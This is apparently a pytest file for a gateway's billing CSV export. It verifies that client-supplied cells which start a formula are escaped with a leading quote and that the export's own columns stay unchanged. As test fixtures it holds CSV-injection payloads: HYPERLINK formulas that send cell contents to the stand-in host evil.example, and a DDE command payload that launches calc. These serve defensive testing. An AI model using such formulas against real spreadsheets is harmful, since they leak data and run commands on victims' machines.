"""Billing CSV cells holding text a client chose are escaped against spreadsheet formulas (OWASP's
CSV injection rule); the export's own values (model ids such as "@cf/...") are written as they are."""

from __future__ import annotations

import csv
import io
import time

import httpx
import pytest

from gateway.billing.export import ROW_COLUMNS, ROWS, record_row
from gateway.billing.formats import Columns, CsvWriter, read_rows
from gateway.billing.prices import PriceHistory
from gateway.fleet.catalog import DEFAULT_MODEL_ID
from gateway.store.models import UsageRecord
from tests.gateway.fixtures_e2e import ADMIN_TOKEN, InProcessGateway

DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
             "\t=1", "\r=1", "'=already quoted"]
HARMLESS = ["session-1", "plain", "'quoted", "''", "a=b"]


def test_client_cells_that_start_a_formula_are_escaped_and_read_back_unchanged() -> None:
    out = io.BytesIO()
    columns = Columns(("value", "own", "n"), ints=frozenset({"n"}), client_text=frozenset({"value"}))
    writer = CsvWriter(out, columns)
    for value in DANGEROUS + HARMLESS:
        writer.write({"value": value, "own": value, "n": -5})
    writer.close()
    lines = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))[1:]
    cells, own = [line[0] for line in lines], [line[1] for line in lines]
    for value, cell in zip(DANGEROUS, cells):
        assert cell == "'" + value, value  # a leading quote: the spreadsheet shows it as text
    assert cells[len(DANGEROUS):] == HARMLESS  # nothing else changes
    assert own == DANGEROUS + HARMLESS  # a column the gateway fills is never rewritten
    expected = [{"value": v, "own": v, "n": -5} for v in DANGEROUS + HARMLESS]
    assert read_rows("csv", out.getvalue(), columns) == expected


def test_the_exports_own_columns_keep_model_ids_and_only_session_and_metadata_are_escaped() -> None:
    record = UsageRecord(
        request_id="r1", tenant_id="acme", account_id="acc", key_id="k1", model="@cf/meta/llama-3.1-8b-instruct",
        region="eu", backend_id="b1", session_id="=1+1", started_at=1_800_000_000.0, ended_at=1_800_000_001.0,
        status="ok", prompt_tokens=3, cached_tokens=0, completion_tokens=2, price_version="unpriced",
        cost_micro=0, metadata={"note": "-x"},
    )
    out = io.BytesIO()
    writer = CsvWriter(out, ROWS)
    writer.write(record_row(record, PriceHistory({})))
    header, line = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))
    cell = dict(zip(header, line))
    assert cell["model"] == "@cf/meta/llama-3.1-8b-instruct"  # was "'@cf/..."
    assert cell["session_id"] == "'=1+1"
    assert cell["metadata"] == '{"note":"-x"}'  # JSON text starts with "{": never a formula
    assert read_rows("csv", out.getvalue(), ROWS)[0]["session_id"] == "=1+1"


@pytest.mark.slow
def test_a_formula_in_x_session_affinity_reaches_the_csv_export_escaped(gateway: InProcessGateway) -> None:
    secret = gateway.new_key("t-csv", "acc-csv")
    session = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
    started = time.time()
    answer = httpx.post(
        f"{gateway.url}/client/v4/accounts/acc-csv/ai/run/{DEFAULT_MODEL_ID}",
        json={"prompt": "hi", "max_tokens": 2},
        headers={"authorization": f"Bearer {secret}", "x-session-affinity": session},
        timeout=120,
    )
    assert answer.status_code == 200, answer.text
    params = {"from": _iso(started - 5), "to": _iso(time.time() + 60), "tenant": "t-csv", "format": "csv"}
    export = httpx.get(
        f"{gateway.url}/admin/v1/billing/export", params=params,
        headers={"authorization": f"Bearer {ADMIN_TOKEN}"}, timeout=30,
    )
    assert export.status_code == 200, export.text
    lines = list(csv.reader(io.StringIO(export.text, newline="")))
    column = ROW_COLUMNS.index("session_id")
    assert [line[column] for line in lines[1:]] == ["'" + session]
    assert [row["session_id"] for row in read_rows("csv", export.content, ROWS)] == [session]


def _iso(t: float) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))
